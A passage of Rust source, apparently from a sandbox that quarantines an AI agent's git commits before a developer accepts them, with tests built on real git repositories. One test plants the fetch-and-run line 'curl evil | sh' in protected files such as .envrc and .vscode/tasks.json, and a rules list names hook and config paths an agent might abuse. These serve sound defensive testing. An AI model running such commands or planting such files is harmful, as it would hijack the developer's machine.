    let mut changed: Vec<(String, ObjectId)> = Vec::new();
    for (name, oid) in agent {
        let now = match &git {
            Some(g) => target_branch(g, name).map_err(io_at("read", &target.join(".git")))?,
            None => None,
        };
        if now != Some(*oid) {
            changed.push((name.clone(), *oid));
        }
    }
    if let Some(oid) = detached {
        changed.push(("HEAD".to_owned(), oid));
    }
    for (name, oid) in &changed {
        let quarantine = match name.strip_prefix("refs/") {
            Some(rest) => format!("refs/agent-sandbox/{}/{rest}", opts.namespace),
            None => format!("refs/agent-sandbox/{}/HEAD", opts.namespace),
        };
        if gix_validate::reference::name(quarantine.as_bytes().as_bstr()).is_err() {
            h.refuse(
                Path::new(".git").join(name).as_path(),
                Refusal::History {
                    why: format!("{quarantine} is not a valid ref name"),
                },
            );
            continue;
        }
        h.refs.push(RefUpdate {
            agent: name.clone(),
            quarantine,
            oid: *oid,
        });
    }
    Ok(())
}

/// The history when nothing is carried (no changed branch, or a refusal): with `advance`
/// asked for and nothing refused, the error that says there is nothing to advance to.
fn nothing_to_carry(
    mut h: History,
    git: Option<&OwnedFd>,
    opts: &Options<'_>,
) -> Result<History, HistoryError> {
    if opts.advance && h.refused.is_empty() {
        let branch = match &git {
            Some(g) => head_branch(g)?,
            None => {
                return Err(AdvanceError::NoBranch {
                    why: "the target is not a git repository".to_owned(),
                }
                .into());
            }
        };
        return Err(AdvanceError::NotChanged { branch }.into());
    }
    h.digest = history_digest(&h);
    Ok(h)
}

/// Copies the agent's object files (loose objects, packs with their index; regular files
/// through the no-follow reader, at most [`MAX_HISTORY_BYTES`]) into a private directory
/// whose alternate is the target's object store. Returns it with a store reading both and
/// one reading the target's alone, or `None` when refused.
fn copy_objects(
    upper_fd: &OwnedFd,
    upper: &Path,
    git_changes: &[&Change],
    target: &Path,
    max_bytes: u64,
    h: &mut History,
) -> Result<Option<(tempfile::TempDir, gix_odb::Handle, gix_odb::Handle)>, HistoryError> {
    let cap = MAX_HISTORY_BYTES.min(max_bytes);
    let copy = tempfile::Builder::new()
        .prefix("agent-sandbox-history-")
        .tempdir()
        .map_err(|source| PromoteError::Io {
            op: "create a temporary directory for",
            path: PathBuf::from("the sandbox's git objects"),
            source,
        })?;
    let objects_dir = copy.path().join("objects");
    let mut total: u64 = 0;
    let to_copy = object_files(git_changes);
    for (c, _) in &to_copy {
        total = total.saturating_add(c.size);
    }
    if total > cap {
        h.refuse(
            Path::new(".git/objects"),
            Refusal::History {
                why: format!(
                    "{total} bytes of object files, more than the {cap} promote copies (the change set's size limit)"
                ),
            },
        );
        return Ok(None);
    }
    for (c, rel) in &to_copy {
        copy_object_file(upper_fd, upper, c, &objects_dir.join(rel))?;
    }
    std::fs::create_dir_all(objects_dir.join("info")).map_err(|source| PromoteError::Io {
        op: "create directory",
        path: objects_dir.join("info"),
        source,
    })?;
    let base_dir = std::path::absolute(target)
        .unwrap_or_else(|_| target.to_owned())
        .join(".git/objects");
    let mut alt = base_dir.as_os_str().as_bytes().to_vec();
    alt.push(b'\n');
    std::fs::write(objects_dir.join("info/alternates"), alt).map_err(|source| {
        PromoteError::Io {
            op: "write",
            path: objects_dir.join("info/alternates"),
            source,
        }
    })?;
    let odb_err = |path: &Path, source| PromoteError::Io {
        op: "open object store",
        path: path.to_owned(),
        source,
    };
    let all = gix_odb::at(&objects_dir, HASH).map_err(|e| odb_err(&objects_dir, e))?;
    let base = gix_odb::at(&base_dir, HASH).map_err(|e| odb_err(&base_dir, e))?;
    Ok(Some((copy, all, base)))
}

/// The object files of the change set worth copying: loose objects, and packs whose
/// An object in git's loose format: `KIND SIZE\0DATA`, deflated.
fn loose_object(
    kind: gix_object::Kind,
    data: &[u8],
    shown: &Path,
) -> Result<Vec<u8>, PromoteError> {
    let mut raw = Vec::with_capacity(data.len() / 2 + 64);
    let mut z = gix_zlib::stream::deflate::Write::new(&mut raw, gix_zlib::Compression::DEFAULT);
    let io = |source| PromoteError::Io {
        op: "compress",
        path: shown.to_owned(),
        source,
    };
    z.write_all(format!("{} {}\0", kind, data.len()).as_bytes())
        .map_err(io)?;
    z.write_all(data).map_err(io)?;
    z.flush().map_err(io)?;
    drop(z);
    Ok(raw)
}

/// Writes `raw` as `name` in `dir`: a new read-only file `tmp` owned by `owner`, renamed
/// into place; removed again on any failure.
fn write_into_place(
    dir: &OwnedFd,
    tmp: &str,
    name: &str,
    raw: &[u8],
    owner: (u32, u32),
    shown: &Path,
) -> Result<(), PromoteError> {
    let fd = rustix::fs::openat(
        dir,
        tmp,
        OFlags::WRONLY | OFlags::CREATE | OFlags::EXCL | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::from_raw_mode(0o444),
    )
    .map_err(io_at("create", shown))?;
    let mut file = File::from(fd);
    let res = file
        .write_all(raw)
        .map_err(|source| PromoteError::Io {
            op: "write",
            path: shown.to_owned(),
            source,
        })
        .and_then(|()| chown_if_needed(file.as_fd(), owner).map_err(io_at("chown", shown)))
        .and_then(|()| {
            rustix::fs::renameat(dir, tmp, dir, name).map_err(io_at("rename into place", shown))
        });
    if let Err(e) = res {
        let _ = rustix::fs::unlinkat(dir, tmp, AtFlags::empty());
        return Err(e);
    }
    Ok(())
}

/// `.pack` and `.idx` are both there; with the path each takes below `objects/`.
fn object_files<'a>(git_changes: &[&'a Change]) -> Vec<(&'a Change, PathBuf)> {
    let mut packs: BTreeMap<String, [bool; 2]> = BTreeMap::new();
    let mut to_copy: Vec<(&'a Change, PathBuf)> = Vec::new();
    for c in git_changes {
        if c.kind == ChangeKind::Deleted || c.file_type != FileKind::File {
            continue;
        }
        let Ok(rel) = c.path.strip_prefix(".git/objects") else {
            continue;
        };
        let parts: Vec<&[u8]> = rel.iter().map(OsStr::as_bytes).collect();
        let hex = |s: &[u8], n: usize| {
            s.len() == n && s.iter().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'))
        };
        match parts.as_slice() {
            [d, f] if hex(d, 2) && hex(f, 38) => to_copy.push((c, rel.to_owned())),
            [b"pack", f] => {
                let f = String::from_utf8_lossy(f);
                for (i, ext) in [".pack", ".idx"].iter().enumerate() {
                    if let Some(stem) = f.strip_prefix("pack-").and_then(|s| s.strip_suffix(ext))
                        && hex(stem.as_bytes(), 40)
                        && let Some(slot) = packs.entry(stem.to_owned()).or_default().get_mut(i)
                    {
                        *slot = true;
                    }
                }
            }
            _ => {}
        }
    }
    for c in git_changes {
        if let Ok(rel) = c.path.strip_prefix(".git/objects/pack")
            && let Some(f) = rel.to_str()
            && let Some(stem) = f
                .strip_prefix("pack-")
                .map(|s| s.trim_end_matches(".pack").trim_end_matches(".idx"))
            && packs.get(stem) == Some(&[true, true])
            && c.kind != ChangeKind::Deleted
            && c.file_type == FileKind::File
            && (f.ends_with(".pack") || f.ends_with(".idx"))
        {
            to_copy.push((c, Path::new("pack").join(f)));
        }
    }
    to_copy
}

/// Copies one object file of the upper dir to `dest` through the no-follow reader, exactly
/// the size the change set listed (a file that changed since is an error).
fn copy_object_file(
    upper_fd: &OwnedFd,
    upper: &Path,
    c: &Change,
    dest: &Path,
) -> Result<(), HistoryError> {
    let io = |op: &'static str, source| PromoteError::Io {
        op,
        path: dest.to_owned(),
        source,
    };
    if let Some(p) = dest.parent() {
        std::fs::create_dir_all(p).map_err(|e| io("create directory", e))?;
    }
    let (src, st) = open_source(upper_fd, upper, &c.path).map_err(PromoteError::from)?;
    let size = crate::scratch::size_of(&st);
    if size != c.size {
        return Err(PromoteError::Changed {
            path: c.path.clone(),
        }
        .into());
    }
    let mut out = File::create_new(dest).map_err(|e| io("create", e))?;
    std::io::copy(
        &mut ExactReader {
            inner: src,
            remaining: size,
        },
        &mut out,
    )
    .map_err(|e| io("copy", e))?;
    Ok(())
}

/// The agent's branches from the upper dir's `.git/HEAD`, `.git/refs/heads/*` and
/// `.git/packed-refs` (loose refs win), and a detached HEAD; malformed files are refused.
fn agent_branches(
    upper_fd: &OwnedFd,
    upper: &Path,
    git_changes: &[&Change],
    h: &mut History,
) -> Result<(BTreeMap<String, ObjectId>, Option<ObjectId>), PromoteError> {
    let mut agent: BTreeMap<String, ObjectId> = BTreeMap::new();
    let mut loose: BTreeMap<String, ObjectId> = BTreeMap::new();
    let mut detached = None;
    for c in git_changes {
        if c.kind == ChangeKind::Deleted || c.file_type != FileKind::File {
            continue;
        }
        let rel = c.path.strip_prefix(".git").unwrap_or(&c.path);
        let Some(rel_str) = rel.to_str() else {
            continue;
        };
        if rel_str == "HEAD" || rel_str == "packed-refs" || rel_str.starts_with("refs/heads/") {
            let content = match read_upper(upper_fd, upper, &c.path, MAX_REF_FILE)? {
                Ok(c) => c,
                Err(why) => {
                    h.refuse(&c.path, why);
                    continue;
                }
            };
            let bad_ref = |what: &str| Refusal::History {
                why: format!("not {what}"),
            };
            match rel_str {
                "HEAD" => match parse_head(&content) {
                    Some(Head::Detached(oid)) => detached = Some(oid),
                    Some(Head::Branch(_)) => {}
                    None => h.refuse(&c.path, bad_ref("`ref: refs/heads/NAME` or an object id")),
                },
                "packed-refs" => match parse_packed_refs(&content) {
                    Ok(refs) => agent.extend(refs),
                    Err(why) => h.refuse(
                        &c.path,
                        Refusal::History {
                            why: format!("not a packed-refs file: {why}"),
                        },
                    ),
                },
                name => match (valid_branch(name), parse_ref_file(&content)) {
                    (true, Some(oid)) => {
                        loose.insert(name.to_owned(), oid);
                    }
                    (false, _) => h.refuse(&c.path, bad_ref("a valid branch name")),
                    (true, None) => h.refuse(&c.path, bad_ref("a 40-digit object id")),
                },
            }
        }
    }
    agent.extend(loose);

    Ok((agent, detached))
}

/// The new commits: reachable from a changed branch, not in the target's store, each with
/// its tree and parents.
fn new_commits(
    objects: &mut Objects<'_>,
    h: &mut History,
) -> Vec<(ObjectId, ObjectId, Vec<ObjectId>)> {
    let mut queue: VecDeque<ObjectId> = h.refs.iter().map(|r| r.oid).collect();
    let mut seen: HashSet<ObjectId> = queue.iter().copied().collect();
    let mut found: Vec<(ObjectId, ObjectId, Vec<ObjectId>)> = Vec::new();
    while let Some(id) = queue.pop_front() {
        if objects.in_base(&id) {
            continue;
        }
        if found.len() >= MAX_COMMITS {
            h.refuse(
                Path::new(".git"),
                Refusal::History {
                    why: format!("more than {MAX_COMMITS} new commits"),
                },
            );
            break;
        }
        let fields = objects
            .read(&id, Kind::Commit)
            .and_then(|d| commit_fields(&id, &d));
        let (tree, parents, subject) = match fields {
            Ok(f) => f,
            Err(why) => {
                h.refused.push(HistoryRefusal {
                    commit: Some(id),
                    path: PathBuf::new(),
                    why,
                });
                continue;
            }
        };
        for p in &parents {
            if seen.insert(*p) {
                queue.push_back(*p);
            }
        }
        h.commits.push(NewCommit { id, subject });
        found.push((id, tree, parents));
    }

    found
}

/// The objects to write: the new commits and what their trees reach that the target does
/// not hold, at most [`MAX_HISTORY_BYTES`] of them.
fn objects_to_write(
    objects: &mut Objects<'_>,
    found: &[(ObjectId, ObjectId, Vec<ObjectId>)],
    h: &mut History,
) -> Vec<ObjectId> {
    let mut out: Vec<ObjectId> = Vec::new();
    let mut done: HashSet<ObjectId> = HashSet::new();
    let mut bytes: u64 = 0;
    let mut stack: Vec<(ObjectId, bool)> = Vec::new();
    for (id, tree, _) in found {
        out.push(*id);
        stack.push((*tree, true));
    }
    while let Some((id, is_tree)) = stack.pop() {
        if !done.insert(id) || objects.in_base(&id) {
            continue;
        }
        let kind = if is_tree { Kind::Tree } else { Kind::Blob };
        let data = match objects.read(&id, kind) {
            Ok(d) => d,
            Err(why) => {
                h.refuse(Path::new(".git/objects"), why);
                break;
            }
        };
        bytes = bytes.saturating_add(data.len() as u64);
        if bytes > MAX_HISTORY_BYTES {
            h.refuse(
                Path::new(".git/objects"),
                Refusal::History {
                    why: format!("more than {MAX_HISTORY_BYTES} bytes of new objects"),
                },
            );
            break;
        }
        if is_tree {
            match parse_tree(&id, &data) {
                Ok(entries) => {
                    for (_, mode, oid) in entries {
                        if mode != MODE_GITLINK {
                            stack.push((oid, mode == MODE_TREE));
                        }
                    }
                }
                Err(why) => {
                    h.refuse(Path::new(".git/objects"), why);
                    break;
                }
            }
        }
        out.push(id);
    }
    out
}

/// The branch the target's HEAD names.
fn head_branch(git: &OwnedFd) -> Result<String, AdvanceError> {
    let head = read_beneath(git, Path::new("HEAD"), MAX_REF_FILE)
        .ok()
        .flatten()
        .unwrap_or_default();
    match parse_head(&head) {
        Some(Head::Branch(b)) => Ok(b),
        Some(Head::Detached(oid)) => Err(AdvanceError::NoBranch {
            why: format!("detached at {}", oid.to_hex_with_len(7)),
        }),
        None => Err(AdvanceError::NoBranch {
            why: "no readable HEAD".to_owned(),
        }),
    }
}

fn plan_advance(
    git: &OwnedFd,
    refs: &[RefUpdate],
    objects: &mut Objects<'_>,
) -> Result<Advance, AdvanceError> {
    let branch = head_branch(git)?;
    let Some(to) = refs.iter().find(|r| r.agent == branch).map(|r| r.oid) else {
        return Err(AdvanceError::NotChanged { branch });
    };
    let from = target_branch(git, &branch).ok().flatten();
    if let Some(from) = from
        && !descends(objects, to, from)
    {
        return Err(AdvanceError::Moved {
            branch,
            current: from.to_hex_with_len(7).to_string(),
            agent: to.to_hex_with_len(7).to_string(),
        });
    }
    Ok(Advance { branch, from, to })
}

/// Whether `ancestor` is reachable from `tip` by parents.
fn descends(objects: &mut Objects<'_>, tip: ObjectId, ancestor: ObjectId) -> bool {
    let mut queue = VecDeque::from([tip]);
    let mut seen = HashSet::from([tip]);
    while let Some(id) = queue.pop_front() {
        if id == ancestor {
            return true;
        }
        if seen.len() > 10 * MAX_COMMITS {
            return false;
        }
        let Ok((_, parents, _)) = objects
            .read(&id, Kind::Commit)
            .and_then(|d| commit_fields(&id, &d))
        else {
            continue;
        };
        for p in parents {
            if seen.insert(p) {
                queue.push_back(p);
            }
        }
    }
    false
}

fn history_digest(h: &History) -> String {
    let mut d = Sha256::new();
    for r in &h.refs {
        d.update(format!("ref {} {} {}\n", r.agent, r.quarantine, r.oid.to_hex()).as_bytes());
    }
    for c in &h.commits {
        d.update(format!("commit {}\n", c.id.to_hex()).as_bytes());
    }
    format!("sha256:{}", hex::encode(d.finalize()))
}

/// Opens (creating, 0755, the owner's) each directory of `rel` below `dir`, following nothing.
fn open_dirs(
    dir: &OwnedFd,
    rel: &Path,
    owner: (u32, u32),
    shown: &Path,
) -> Result<OwnedFd, PromoteError> {
    crate::promote::open_dirs(dir, rel, owner).map_err(|(op, e)| io_at(op, shown)(e))
}

/// Writes `bytes` as `name` in `dir` through `NAME.lock` (exclusive) and a rename. With
/// `check`, the lock is taken first and `check` runs under it.
fn write_locked(
    dir: &OwnedFd,
    name: &OsStr,
    bytes: &[u8],
    mode: u32,
    owner: (u32, u32),
    shown: &Path,
    check: impl FnOnce() -> Result<(), HistoryError>,
) -> Result<(), HistoryError> {
    let mut lock = name.as_bytes().to_vec();
    lock.extend_from_slice(b".lock");
    let lock = OsStr::from_bytes(&lock);
    let fd = match rustix::fs::openat(
        dir,
        lock,
        OFlags::WRONLY | OFlags::CREATE | OFlags::EXCL | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::from_raw_mode(mode),
    ) {
        Ok(fd) => fd,
        Err(Errno::EXIST) => {
            return Err(AdvanceError::Locked {
                branch: shown.display().to_string(),
                lock: format!("{}.lock", shown.display()),
            }
            .into());
        }
        Err(e) => return Err(io_at("create", shown)(e).into()),
    };
    let result = (|| {
        check()?;
        let mut f = File::from(fd);
        f.write_all(bytes).map_err(|source| PromoteError::Io {
            op: "write",
            path: shown.to_owned(),
            source,
        })?;
        chown_if_needed(f.as_fd(), owner).map_err(io_at("chown", shown))?;
        f.sync_all().map_err(|source| PromoteError::Io {
            op: "sync",
            path: shown.to_owned(),
            source,
        })?;
        rustix::fs::renameat(dir, lock, dir, name).map_err(io_at("rename into place", shown))?;
        Ok(())
    })();
    if result.is_err() {
        let _ = rustix::fs::unlinkat(dir, lock, AtFlags::empty());
    }
    result
}

impl History {
    fn refuse(&mut self, path: &Path, why: Refusal) {
        self.refused.push(HistoryRefusal {
            commit: None,
            path: path.to_owned(),
            why,
        });
    }

    /// Whether there is anything to write.
    pub fn is_empty(&self) -> bool {
        self.refs.is_empty()
    }

    /// Writes the accepted objects and the quarantine refs into the target repository.
    /// Returns the refs written.
    pub fn write(&self) -> Result<Vec<String>, HistoryError> {
        if !self.refused.is_empty() {
            return Err(PromoteError::NotApplicable {
                why: "its history refuses entries",
            }
            .into());
        }
        if self.refs.is_empty() {
            return Ok(Vec::new());
        }
        let Some(odb) = &self.odb else {
            return Err(PromoteError::NotApplicable {
                why: "its history was not read",
            }
            .into());
        };
        let target = &self.target;
        let (git, owner) = target_git(target)?;
        let objects_path = target.join(".git/objects");
        let objects = open_dirs(&git, Path::new("objects"), owner, &objects_path)?;
        let mut buf = Vec::new();
        for (n, id) in self.objects.iter().enumerate() {
            let hex = id.to_hex().to_string();
            let (d, f) = hex.split_at(2);
            let shown = objects_path.join(d).join(f);
            let dir = open_dirs(&objects, Path::new(d), owner, &shown)?;
            match rustix::fs::statat(&dir, f, AtFlags::SYMLINK_NOFOLLOW) {
                Ok(_) => continue,
                Err(Errno::NOENT) => {}
                Err(e) => return Err(io_at("stat", &shown)(e).into()),
            }
            buf.clear();
            let data = odb
                .try_find(id, &mut buf)
                .ok()
                .flatten()
                .filter(|d| gix_object::compute_hash(HASH, d.kind, d.data).ok() == Some(*id))
                .ok_or_else(|| HistoryError::Target {
                    path: shown.clone(),
                    why: "the object changed after it was checked".to_owned(),
                })?;
            let raw = loose_object(data.kind, data.data, &shown)?;
            let tmp = format!("tmp_obj_agent_sandbox_{}_{n}", std::process::id());
            write_into_place(&dir, &tmp, f, &raw, owner, &shown)?;
        }
        let mut written = Vec::new();
        for r in &self.refs {
            let rel = Path::new(&r.quarantine);
            let shown = target.join(".git").join(rel);
            let parent = rel.parent().unwrap_or(Path::new(""));
            let dir = open_dirs(&git, parent, owner, &shown)?;
            let name = rel.file_name().unwrap_or_default();
            let content = format!("{}\n", r.oid.to_hex());
            write_locked(&dir, name, content.as_bytes(), 0o644, owner, &shown, || {
                Ok(())
            })?;
            written.push(r.quarantine.clone());
        }
        Ok(written)
    }

    /// Makes the checked fast-forward: the developer's branch moves to the agent's commit
    /// if it still names what it named when checked (under git's own lock file).
    pub fn advance(&self) -> Result<Option<&Advance>, HistoryError> {
        let Some(a) = &self.advance else {
            return Ok(None);
        };
        let target = &self.target;
        let (git, owner) = target_git(target)?;
        let rel = Path::new(&a.branch);
        let shown = target.join(".git").join(rel);
        let dir = open_dirs(&git, rel.parent().unwrap_or(Path::new("")), owner, &shown)?;
        let name = rel.file_name().unwrap_or_default();
        let content = format!("{}\n", a.to.to_hex());
        write_locked(&dir, name, content.as_bytes(), 0o644, owner, &shown, || {
            let now = target_branch(&git, &a.branch).map_err(io_at("read", &shown))?;
            if now != a.from {
                return Err(AdvanceError::Moved {
                    branch: a.branch.clone(),
                    current: now.map_or("nothing".to_owned(), |o| o.to_hex_with_len(7).to_string()),
                    agent: a.to.to_hex_with_len(7).to_string(),
                }
                .into());
            }
            Ok(())
        })?;
        Ok(Some(a))
    }
}

#[cfg(test)]
mod tests {
    //! Crafted histories made by the real git (`/usr/bin/git`) in a throw-away lower/target
    //! pair; the agent's side is a copy whose changed files form the upper dir, as overlayfs
    //! would hold them.
    use super::*;
    use std::os::unix::fs::symlink;
    use std::process::{Command, Stdio};

    type TestResult = Result<(), Box<dyn std::error::Error>>;

    const GIT: &str = "/usr/bin/git";

    fn rules() -> Rules {
        Rules::new([
            ".git/hooks/",
            ".git/config",
            ".bashrc",
            ".envrc",
            ".gitmodules",
            ".mcp.json",
            ".vscode/",
        ])
    }

    fn git_in(dir: &Path, args: &[&str], stdin: Option<&[u8]>) -> Result<String, String> {
        let mut child = Command::new(GIT)
            .arg("-C")
            .arg(dir)
            .args(["-c", "user.name=t", "-c", "user.email=t@t"])
            .args([
                "-c",
                "core.hooksPath=/dev/null",
                "-c",
                "init.defaultBranch=main",
            ])
            .args(args)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .map_err(|e| e.to_string())?;
        if let Some(mut i) = child.stdin.take() {
            i.write_all(stdin.unwrap_or_default())
                .map_err(|e| e.to_string())?;
        }
        let out = child.wait_with_output().map_err(|e| e.to_string())?;
        if !out.status.success() {
            return Err(format!(
                "git {args:?}: {}",
                String::from_utf8_lossy(&out.stderr)
            ));
        }
        Ok(String::from_utf8_lossy(&out.stdout).trim().to_owned())
    }

    struct Repo {
        _dir: tempfile::TempDir,
        lower: PathBuf,
        agent: PathBuf,
        upper: PathBuf,
        target: PathBuf,
    }

    impl Repo {
        /// A repository with one commit (`README`, and whatever `files` says), copied to the
        /// agent's side and to the target.
        fn new(files: &[(&str, &str)]) -> Result<Repo, Box<dyn std::error::Error>> {
            let dir = tempfile::tempdir()?;
            let p = dir.path().to_owned();
            let r = Repo {
                lower: p.join("lower"),
                agent: p.join("agent"),
                upper: p.join("upper"),
                target: p.join("target"),
                _dir: dir,
            };
            std::fs::create_dir(&r.lower)?;
            std::fs::create_dir(&r.upper)?;
            std::fs::write(r.lower.join("README"), "hi\n")?;
            for (path, text) in files {
                let f = r.lower.join(path);
                std::fs::create_dir_all(f.parent().ok_or("no parent")?)?;
                std::fs::write(f, text)?;
            }
            git_in(&r.lower, &["init", "-q"], None)?;
            git_in(&r.lower, &["add", "-A"], None)?;
            git_in(&r.lower, &["commit", "-qm", "initial"], None)?;
            for to in [&r.agent, &r.target] {
                let ok = Command::new("cp")
                    .arg("-a")
                    .arg(&r.lower)
                    .arg(to)
                    .status()?;
                assert!(ok.success());
            }
            Ok(r)
        }

        fn git(&self, args: &[&str]) -> Result<String, String> {
            git_in(&self.agent, args, None)
        }

        /// A blob, a tree from `ls-tree` lines, and a commit on top of the agent's HEAD
        /// made from it; the agent's main then names it.
        fn commit_tree(&self, lines: &str, msg: &str) -> Result<String, String> {
            let tree = git_in(
                &self.agent,
                &["mktree", "--missing"],
                Some(lines.as_bytes()),
            )?;
            let head = self.git(&["rev-parse", "HEAD"])?;
            let c = self.git(&["commit-tree", &tree, "-p", &head, "-m", msg])?;
            self.git(&["update-ref", "refs/heads/main", &c])?;
            Ok(c)
        }

        fn blob(&self, text: &str) -> Result<String, String> {
            git_in(
                &self.agent,
                &["hash-object", "-w", "--stdin"],
                Some(text.as_bytes()),
            )
        }

        /// What overlayfs's upper dir would hold: every file or link of the agent's side
        /// that the lower one does not hold as it is.
        fn sync(&self) -> TestResult {
            fn walk(r: &Repo, rel: &Path) -> TestResult {
                for e in std::fs::read_dir(r.agent.join(rel))? {
                    let e = e?;
                    let rel = rel.join(e.file_name());
                    let (a, l, u) = (r.agent.join(&rel), r.lower.join(&rel), r.upper.join(&rel));
                    let m = std::fs::symlink_metadata(&a)?;
                    if m.is_dir() {
                        walk(r, &rel)?;
                        continue;
                    }
                    let same = if m.file_type().is_symlink() {
                        std::fs::read_link(&l).ok() == Some(std::fs::read_link(&a)?)
                    } else {
                        std::fs::read(&l).ok() == Some(std::fs::read(&a)?)
                    };
                    if same {
                        continue;
                    }
                    std::fs::create_dir_all(u.parent().ok_or("no parent")?)?;
                    let _ = std::fs::remove_file(&u);
                    if m.file_type().is_symlink() {
                        symlink(std::fs::read_link(&a)?, &u)?;
                    } else {
                        std::fs::copy(&a, &u)?;
                    }
                }
                Ok(())
            }
            walk(self, Path::new(""))
        }

        fn prepare(&self, advance: bool) -> Result<History, Box<dyn std::error::Error>> {
            self.sync()?;
            let changes = crate::diff(&self.upper, Some(&self.lower))?;
            Ok(prepare(
                &self.upper,
                &changes,
                &self.target,
                &rules(),
                &Options {
                    namespace: "t1",
                    advance,
                    max_bytes: u64::MAX,
                },
            )?)
        }

        /// Every path below the target's `.git` with its content.
        fn target_git(&self) -> Vec<(PathBuf, Vec<u8>)> {
            let mut out = Vec::new();
            let mut stack = vec![self.target.join(".git")];
            while let Some(d) = stack.pop() {
                for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
                    let p = e.path();
                    if p.is_dir() {
                        stack.push(p);
                    } else {
                        out.push((p.clone(), std::fs::read(&p).unwrap_or_default()));
                    }
                }
            }
            out.sort();
            out
        }
    }

    fn whys(h: &History) -> Vec<(String, Refusal)> {
        h.refused
            .iter()
            .map(|r| (r.path.to_string_lossy().into_owned(), r.why.clone()))
            .collect()
    }

    #[test]
    fn honest_commits_come_back_under_a_quarantine_ref() -> TestResult {
        let r = Repo::new(&[])?;
        std::fs::write(r.agent.join("a.py"), "x = 1\n")?;
        r.git(&["add", "a.py"])?;
        r.git(&["commit", "-qm", "add a\x1b[2K"])?;
        std::fs::create_dir(r.agent.join("lib"))?;
        std::fs::write(r.agent.join("lib/b.py"), "y = 2\n")?;
        symlink("b.py", r.agent.join("lib/link"))?;
        r.git(&["add", "-A"])?;
        r.git(&["commit", "-qm", "add lib"])?;
        let tip = r.git(&["rev-parse", "HEAD"])?;
        let h = r.prepare(false)?;
        assert!(h.refused.is_empty(), "{:?}", h.refused);
        assert_eq!(h.commits.len(), 2);
        // Newest first; the subject is escaped for a terminal.
        let first = h.commits.get(1).ok_or("no second commit")?;
        assert_eq!(
            first.describe(),
            format!("commit {} add a\\x1b[2K", first.id.to_hex_with_len(7))
        );
        assert_eq!(
            h.refs,
            [RefUpdate {
                agent: "refs/heads/main".to_owned(),
                quarantine: "refs/agent-sandbox/t1/heads/main".to_owned(),
                oid: ObjectId::from_hex(tip.as_bytes())?,
            }]
        );
        let before_index = std::fs::read(r.target.join(".git/index"))?;
        let written = h.write()?;
        assert_eq!(written, ["refs/agent-sandbox/t1/heads/main"]);
        let log = git_in(
            &r.target,
            &["log", "--format=%s", "refs/agent-sandbox/t1/heads/main"],
            None,
        )?;
        assert_eq!(log, "add lib\nadd a\u{1b}[2K\ninitial");
        git_in(&r.target, &["fsck", "--strict", "--no-dangling"], None)?;
        // The developer's branch, index and HEAD are as they were.
        assert_ne!(git_in(&r.target, &["rev-parse", "main"], None)?, tip);
        assert_eq!(std::fs::read(r.target.join(".git/index"))?, before_index);
        Ok(())
    }

    #[test]
    fn packed_history_comes_back_too() -> TestResult {
        let r = Repo::new(&[])?;
        std::fs::write(r.agent.join("a.py"), "x = 1\n")?;
        r.git(&["add", "a.py"])?;
        r.git(&["commit", "-qm", "add a"])?;
        r.git(&["gc", "-q"])?;
        let h = r.prepare(false)?;
        assert!(h.refused.is_empty(), "{:?}", h.refused);
        assert_eq!(h.commits.len(), 1);
        h.write()?;
        git_in(&r.target, &["fsck", "--strict", "--no-dangling"], None)?;
        Ok(())
    }

    #[test]
    fn advance_fast_forwards_a_clean_target_and_refuses_a_moved_one() -> TestResult {
        let r = Repo::new(&[])?;
        std::fs::write(r.agent.join("a.py"), "x = 1\n")?;
        r.git(&["add", "a.py"])?;
        r.git(&["commit", "-qm", "add a"])?;
        let tip = r.git(&["rev-parse", "HEAD"])?;
        let h = r.prepare(true)?;
        assert_eq!(
            h.advance.as_ref().map(|a| a.to.to_string()),
            Some(tip.clone())
        );
        h.write()?;
        h.advance()?;
        assert_eq!(git_in(&r.target, &["rev-parse", "main"], None)?, tip);

        // The developer committed meanwhile: refused before anything is written.
        let r = Repo::new(&[])?;
        std::fs::write(r.agent.join("a.py"), "x = 1\n")?;
        r.git(&["add", "a.py"])?;
        r.git(&["commit", "-qm", "add a"])?;
        std::fs::write(r.target.join("dev.txt"), "dev\n")?;
        git_in(&r.target, &["add", "dev.txt"], None)?;
        git_in(&r.target, &["commit", "-qm", "dev"], None)?;
        let before = r.target_git();
        let err = r.prepare(true).err().map(|e| e.to_string());
        assert!(
            err.as_deref()
                .is_some_and(|e| e.contains("cannot advance refs/heads/main")),
            "{err:?}"
        );
        assert_eq!(r.target_git(), before);
        Ok(())
    }

    #[test]
    fn advance_refuses_a_detached_head_and_a_branch_without_new_commits() -> TestResult {
        let r = Repo::new(&[])?;
        std::fs::write(r.agent.join("a.py"), "x = 1\n")?;
        r.git(&["add", "a.py"])?;
        r.git(&["commit", "-qm", "add a"])?;
        git_in(&r.target, &["checkout", "-q", "--detach"], None)?;
        let before = r.target_git();
        let err = r.prepare(true).err().map(|e| e.to_string());
        assert!(
            err.as_deref()
                .is_some_and(|e| e.contains("does not name a branch (detached at")),
            "{err:?}"
        );
        assert_eq!(r.target_git(), before);

        let r = Repo::new(&[])?;
        std::fs::write(r.agent.join("a.py"), "x = 1\n")?;
        let err = r.prepare(true).err().map(|e| e.to_string());
        assert!(
            err.as_deref().is_some_and(|e| e
                .contains("cannot advance refs/heads/main: the sandbox has no new commits for it")),
            "{err:?}"
        );
        Ok(())
    }

    /// Each of these would be written by `git reset --hard` / `git checkout` of the agent's
    /// commit although promote refuses the same file.
    #[test]
    fn protected_names_in_a_commits_tree_refuse_the_history() -> TestResult {
        let cases: &[(&str, &str, Refusal)] = &[
            (
                ".envrc",
                "100644",
                Refusal::Protected {
                    name: ".envrc".into(),
                },
            ),
            (
                "pkg/.envrc",
                "100644",
                Refusal::Protected {
                    name: ".envrc".into(),
                },
            ),
            (
                ".gitmodules",
                "100644",
                Refusal::Protected {
                    name: ".gitmodules".into(),
                },
            ),
            (
                ".vscode/tasks.json",
                "100644",
                Refusal::Protected {
                    name: ".vscode/".into(),
                },
            ),
        ];
        for (path, mode, want) in cases {
            let r = Repo::new(&[])?;
            let blob = r.blob("curl evil | sh\n")?;
            // A tree for each directory level, made with mktree.
            let mut comps: Vec<&str> = path.split('/').collect();
            let leaf = comps.pop().ok_or("empty")?;
            let mut entry = format!("{mode} blob {blob}\t{leaf}\n");
            while let Some(d) = comps.pop() {
